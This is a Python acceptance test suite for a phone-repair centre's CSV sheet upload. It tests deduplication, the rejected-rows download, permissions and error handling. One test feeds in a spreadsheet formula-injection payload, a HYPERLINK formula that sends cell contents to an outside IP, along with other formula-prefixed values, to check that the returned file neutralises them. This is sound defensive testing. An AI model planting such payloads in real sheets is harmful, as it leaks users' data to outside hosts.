"""A sheet is uploaded: every row is answered, what is given back can be mended and sent again, and no row is taken in twice."""

from __future__ import annotations

import csv
import io
from base64 import b64decode

from bs4 import BeautifulSoup
from httpx2 import Response

from engine.runtime.sheet import read_sheet, write_sheet
from engine.store.cases import Filter
from tests.acceptance.repair_centre import COLUMNS, tickets
from tests.console.reception import SWAPPING, Reception, part, said
from web.console.pages.sheets import MOST_ROWS

PATH = "/intake/phone-repair/receive/sheet"


def upload(reception: Reception, content: bytes, person: str = "amy", name: str = "送修单.csv", **form: str) -> Response:
    """What a sheet is answered, where its answer stands."""
    return reception.browser(person).post(PATH, data=form, files={"file": (name, content, "text/csv")}, follow_redirects=True)


def page_of(answer: Response, status: int = 200) -> BeautifulSoup:
    """It as a page."""
    assert answer.status_code == status, answer.text
    return BeautifulSoup(answer.text, "html.parser")


def written(first: int, count: int) -> bytes:
    """So many tickets as a file, the first of which has this number; a device comes in once, so each test has numbers of its own."""
    sheet = tickets(first + count - 1)
    return write_sheet(sheet.columns, [row.cells for row in sheet.rows[first - 1 :]])


def given_back(page: BeautifulSoup) -> bytes:
    """The file of rejected rows."""
    return b64decode(said(part(page, "a[download]"), "href").partition(",")[2])


def cases(reception: Reception) -> int:
    """How many there are."""
    return len(reception.app.views.page(Filter(), 200).lines)


def test_every_row_is_answered_and_sent_again_none_is_taken_in_twice(reception: Reception) -> None:
    before, content = cases(reception), written(1, 3)
    page = page_of(upload(reception, content))
    numbers = [link.text for link in page.select(".taken td a")]
    assert [each.text for each in page.select(".taken td:first-child")] == ["2", "3", "4"]
    assert all(reception.get("amy", f"/cases/{number}").status_code == 200 for number in numbers)
    assert cases(reception) == before + 3
    again = page_of(upload(reception, content))
    assert "3 taken in before" in part(again, ".counts").text
    assert [link.text for link in again.select(".taken td a")] == numbers
    assert cases(reception) == before + 3


def test_what_became_of_a_sheet_is_there_again_for_whoever_sent_it(reception: Reception) -> None:
    sent = {"file": ("送修单.csv", written(40, 2), "text/csv")}
    swapped = reception.browser("amy").post(PATH, files=sent, headers=SWAPPING)
    address = swapped.headers["hx-push-url"]
    counted = part(page_of(swapped), ".counts").text
    assert "2 taken in" in counted
    assert part(reception.read("amy", address), ".counts").text == counted
    assert reception.read("ann", address).select_one(".counts") is None
    gone = reception.read("amy", f"{PATH}?result=gone")
    assert gone.select_one(".counts") is None
    assert "no longer kept" in gone.text


def test_what_is_given_back_is_mended_and_sent_again(reception: Reception) -> None:
    before, wrong = cases(reception), tickets(11).rows[10].cells[5]
    page = page_of(upload(reception, written(10, 5).replace(wrong.encode(), b"12")))
    (row,) = page.select(".give-back tbody tr")
    assert [cell.text.strip() for cell in row.select("td")][:2] == ["3", "SX2609-00011"]
    assert "IMEI" in row.text
    assert part(page, "a[download]")["download"] == "送修单.rejected.csv"
    back = given_back(page)
    assert read_sheet(back).rows[0].cells[-3:-1] == ("3", "imei")
    mended = page_of(upload(reception, back.replace(b",12,", f",{wrong},".encode())))
    assert len(mended.select(".taken td a")) == 1
    assert cases(reception) == before + 5


def test_no_cell_that_is_given_back_is_a_formula(reception: Reception) -> None:
    attack = '=HYPERLINK("http://203.0.113.9/"&A1)'
    row = (attack, "寄修", "@SUM(1)", "+1", "-2+3", "\t=1", "无凭证", "", "＝1", "充电器", "边框掉漆", "是", "是")
    back = given_back(page_of(upload(reception, write_sheet(COLUMNS, [row]))))
    _, cells = csv.reader(io.StringIO(back.decode("utf-8-sig"), newline=""))
    assert [cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "-", "@", "＝") or cell[:1] == "\t"] == []
    assert read_sheet(back).rows[0].cells[: len(row)] == row


def test_an_empty_sheet_is_to_be_had_and_can_be_filled_in(reception: Reception) -> None:
    answer = reception.get("amy", f"{PATH}.csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith("attachment")
    assert answer.content.startswith(b"\xef\xbb\xbf")
    columns = read_sheet(answer.content).columns
    assert columns[:3] == ("参考号", "送修渠道", "客户姓名")
    ticket = dict(zip(COLUMNS, tickets(20).rows[19].cells, strict=True))
    row = [ticket.get("reference" if column == "参考号" else column, "") for column in columns]
    assert "1 taken in" in part(page_of(upload(reception, write_sheet(columns, [row]))), ".counts").text
    assert [part(each, "th").text.split()[0] for each in reception.read("amy", PATH).select(".columns tbody tr")] == list(columns)


def test_a_sheet_that_cannot_be_taken_in_is_refused_with_the_way_out(reception: Reception) -> None:
    before, long = cases(reception), written(1, MOST_ROWS + 1)
    for content, why in (
        (long, "at most 2000 rows, found 2001"),
        (b"", "the file is empty"),
        ("客户姓名\n测试客户甲".encode(), "Required columns are missing"),
        (b"\xff\xfe\x00\x00", "neither UTF-8 nor GB18030"),
    ):
        fault = part(page_of(upload(reception, content), 422), ".fault")
        assert why in fault.text
    assert "aftercare intake" in part(page_of(upload(reception, long), 422), ".fault").text
    assert "No file was chosen" in page_of(reception.post("amy", PATH, {"unit": ""}), 422).text
    assert cases(reception) == before


def test_the_right_is_asked_row_by_row(reception: Reception) -> None:
    before = cases(reception)
    assert "样例前台01" in reception.read("tom", PATH, 403).text
    page = page_of(upload(reception, written(30, 2), "tom"))
    assert "2 given back" in part(page, ".counts").text
    assert "may not do" in part(page, ".give-back").text
    elsewhere = page_of(upload(reception, written(30, 2), unit="phone-02"))
    assert "2 given back" in part(elsewhere, ".counts").text
    assert cases(reception) == before
